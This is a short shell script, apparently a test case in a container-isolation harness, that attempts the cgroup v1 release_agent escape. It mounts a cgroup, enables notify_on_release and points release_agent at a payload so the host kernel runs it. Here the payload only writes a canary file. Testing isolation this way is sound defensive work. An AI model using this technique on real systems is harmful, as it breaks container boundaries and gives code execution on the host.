#!/bin/sh
. /cases/attempt.sh
upper=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/mounts | head -1)
cgroup=/tmp/cg/$CASE_ID
mkdir -p /tmp/cg
attempt mount mount -t cgroup -o pids none /tmp/cg
attempt mkdir mkdir -p "$cgroup"
( echo 1 >"$cgroup/notify_on_release" ) 2>&1
attempted notify_on_release $?
printf '#!/bin/sh\necho by-host-kernel >%s\n' "$CANARY_DROP" 2>/dev/null >/payload
chmod 755 /payload 2>/dev/null
( echo "$upper/payload" >/tmp/cg/release_agent ) 2>&1
if attempted release_agent $? && grep -q ' /tmp/cg cgroup' /proc/mounts; then
    sh -c "echo \$\$ >$cgroup/cgroup.procs" # the last process leaves: the kernel calls the agent
    sleep 1
    echo >/tmp/cg/release_agent
    effect "release_agent set"
fi
rmdir "$cgroup" 2>/dev/null
umount /tmp/cg 2>/dev/null
finish
